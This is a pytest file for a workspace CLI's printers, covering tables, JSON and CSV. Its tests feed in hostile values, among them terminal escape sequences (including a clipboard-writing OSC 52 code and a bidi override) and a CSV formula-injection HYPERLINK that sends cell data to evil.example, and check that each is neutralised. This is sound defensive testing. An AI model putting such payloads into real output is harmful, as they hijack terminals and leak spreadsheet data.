"""The printers on their own: literal text, no escapes, colour only on a terminal."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from paiws.core import present
from paiws.core.errors import NotActivated, PermissionDenied, RequestTimeout
from paiws.core.views import (
    CreateOutcome,
    CreateRequest,
    OwnerInfo,
    WorkspaceDetail,
    WorkspacePage,
    WorkspaceRow,
)
from paiws.output import create as create_output
from paiws.output import workspaces as workspace_output
from paiws.output.errors import print_error

HOSTILE = "[bold red]x[/] \x1b]52;c;aGk=\x07\x1b[2J\x9b31m\u202eevil"


def _row(**changes: object) -> WorkspaceRow:
    fields: dict[str, object] = dict(
        workspace_id="42",
        name="ws_one",
        display_name=HOSTILE,
        description=HOSTILE,
        status="ENABLED",
        environments=("dev", "prod"),
        created="2024-01-01 08:00:00",
        modified="2024-01-02 08:00:00",
        creator_id="****1234",
        administrators=("a***",),
        resource_group="N/A",
        is_default=False,
    )
    fields.update(changes)
    return WorkspaceRow(**fields)  # type: ignore[arg-type]


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


def _no_controls(text: str) -> None:
    assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text
    assert "\u202e" not in text


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_hostile_strings_are_printed_literally_without_controls(fmt: str) -> None:
    stream = io.StringIO()
    page = WorkspacePage(rows=(_row(),), total=1, page=1, page_size=20)
    workspace_output.print_rows(list(page.rows), 1, fmt, stream, region="cn-hangzhou", page=page)
    text = stream.getvalue()
    _no_controls(text)
    assert "[bold red]x[/]" in text


def test_detail_text_never_uses_api_field_names() -> None:
    stream = io.StringIO()
    detail = WorkspaceDetail(_row(), OwnerInfo("b***", "B***", "****9876"), verbose=True)
    workspace_output.print_detail(detail, "text", stream, owner=True)
    text = stream.getvalue()
    _no_controls(text)
    assert "Owner:" in text and "Owner ID:" in text and "****9876" in text
    for api_name in ("Creator:", "UserId", "UserName", "UserKp", "AdminNames"):
        assert api_name not in text


def test_table_has_no_colour_when_not_a_terminal_even_with_force_color(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    stream = io.StringIO()
    workspace_output.print_rows([_row(status="FAILURE")], 1, "table", stream, region="cn-hangzhou")
    assert "\x1b" not in stream.getvalue()
    assert "FAILURE" in stream.getvalue()


def test_table_is_coloured_on_a_terminal_but_api_text_is_not_markup(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("COLUMNS", "250")
    stream = _Tty()
    workspace_output.print_rows(
        [_row(status="FAILURE", description="plain")], 1, "table", stream, region="cn-hangzhou"
    )
    text = stream.getvalue()
    assert "\x1b[" in text  # the status colour
    assert "[bold red]x[/]" in text  # display name shown literally, not interpreted


def test_narrow_terminal_hides_low_priority_columns_instead_of_folding(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    stream = _Tty()
    workspace_output.print_rows(
        [_row(display_name="d", description="d")], 1, "table", stream, region="cn-hangzhou"
    )
    text = re.sub(r"\x1b\[[0-9;]*m", "", stream.getvalue())
    assert "Modified" not in text.splitlines()[0] and "Hidden to fit" in text
    assert all(len(line) <= 80 for line in text.splitlines()[:-1])
    assert "ws_one" in text and "****1234" in text


def test_long_values_are_not_truncated_in_a_pipe(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("COLUMNS", raising=False)
    stream = io.StringIO()
    long_rg = "rg-" + "x" * 150
    workspace_output.print_rows(
        [_row(resource_group=long_rg)], 1, "table", stream, region="cn-hangzhou"
    )
    assert long_rg in stream.getvalue()


def test_csv_joins_lists_with_semicolons() -> None:
    stream = io.StringIO()
    workspace_output.print_rows(
        [_row(administrators=("a***", "b***@x.com"))], 1, "csv", stream, region="r"
    )
    header, row = list(csv.reader(io.StringIO(stream.getvalue())))
    record = dict(zip(header, row, strict=True))
    assert record["Administrators"] == "a***;b***@x.com"
    assert record["Environments"] == "dev;prod"
    assert record["Default"] == "false"


def test_create_outcome_json_shape() -> None:
    out, err = io.StringIO(), io.StringIO()
    outcome = CreateOutcome("name_taken", "42", "taken", differences=("description",))
    request = CreateRequest("ws_one", "d", ("prod",))
    create_output.print_create_outcome(outcome, request, "json", out, err, region="r", wait=False)
    assert json.loads(out.getvalue()) == {
        "Outcome": "name_taken",
        "Workspace ID": "42",
        "Status": None,
        "Differences": ["description"],
    }
    assert "description" in err.getvalue()


def test_error_reports_give_the_next_step() -> None:
    stream = io.StringIO()
    print_error(RequestTimeout("Timed out.", which="read", seconds=5), stream)
    assert "--read-timeout" in stream.getvalue()
    stream = io.StringIO()
    print_error(
        NotActivated(
            "PAI is not activated.",
            region="cn-beijing",
            purchase_url="https://buy.example/",
            can_purchase=True,
        ),
        stream,
    )
    assert "https://buy.example/" in stream.getvalue()
    stream = io.StringIO()
    print_error(
        PermissionDenied(
            "Denied.", action="paiworkspace:GetWorkspace", policy='{\n  "Version": "1"\n}'
        ),
        stream,
    )
    text = stream.getvalue()
    assert "paiworkspace:GetWorkspace" in text and '"Version": "1"' in text


def test_piped_table_has_the_layout_rich_would_draw() -> None:
    from rich import box
    from rich.console import Console
    from rich.table import Table
    from rich.text import Text

    rows = [
        _row(display_name="默认工作空间", description="d"),
        _row(workspace_id="4242", name="a_much_longer_name", display_name="x"),
    ]
    stream = io.StringIO()
    workspace_output.print_rows(rows, 2, "table", stream, region="cn-hangzhou")
    table = Table(box=box.SIMPLE_HEAD, show_edge=False, pad_edge=False)
    for column in present.TABLE_COLUMNS:
        table.add_column(column)
    for row in rows:
        table.add_row(*(Text(cell) for cell in present.row_cells(row)))
    console = Console(file=io.StringIO(), width=1000, force_terminal=False, color_system=None)
    with console.capture() as captured:
        console.print(table)
    expected = "".join(line.rstrip() + "\n" for line in captured.get().splitlines())
    assert stream.getvalue() == expected


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("https://evil.example/?"&A2,"details")', "@SUM(1+1)", "+1", "-1+2", "=1"],
)
def test_csv_cells_that_would_start_a_formula_are_neutralised(value: str) -> None:
    stream = io.StringIO()
    workspace_output.print_rows(
        [_row(description=value, display_name=value)], 1, "csv", stream, region="r"
    )
    header, row = list(csv.reader(io.StringIO(stream.getvalue())))
    record = dict(zip(header, row, strict=True))
    assert record["Description"] == "'" + value and record["Display Name"] == "'" + value


def test_json_keeps_formula_like_values_as_they_are() -> None:
    stream = io.StringIO()
    workspace_output.print_rows([_row(description="=1+1")], 1, "json", stream, region="r")
    assert json.loads(stream.getvalue())["Workspaces"][0]["Description"] == "=1+1"


@pytest.mark.parametrize("tty", [True, False], ids=["terminal", "pipe"])
def test_tables_fit_columns_and_never_wrap_a_row(
    monkeypatch: pytest.MonkeyPatch, tty: bool
) -> None:
    """Issue #14: COLUMNS=80 is honoured on a terminal and in a pipe alike; Name and Status stay
    whole, long text is cut with an ellipsis, nothing wraps."""
    monkeypatch.setenv("COLUMNS", "80")
    stream: io.StringIO = _Tty() if tty else io.StringIO()
    rows = [
        _row(name="initialising_ws", status="INITIALIZING", display_name="自然语言处理" * 6),
        _row(name="failed_ws_name_23chars", status="FAILURE", description="d" * 300),
    ]
    workspace_output.print_rows(rows, 2, "table", stream, region="cn-hangzhou")
    lines = re.sub(r"\x1b\[[0-9;]*m", "", stream.getvalue()).splitlines()
    from rich.cells import cell_len

    table = [line for line in lines if not line.startswith("(Hidden")]
    assert all(cell_len(line) <= 80 for line in table), max(cell_len(line) for line in table)
    text = "\n".join(table)
    for whole in ("initialising_ws", "INITIALIZING", "failed_ws_name_23chars", "FAILURE"):
        assert whole in text


def test_wide_prints_every_column_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    stream = io.StringIO()
    long_rg = "rg-" + "x" * 150
    workspace_output.print_rows(
        [_row(resource_group=long_rg)], 1, "table", stream, region="r", wide=True
    )
    assert long_rg in stream.getvalue() and "Hidden" not in stream.getvalue()
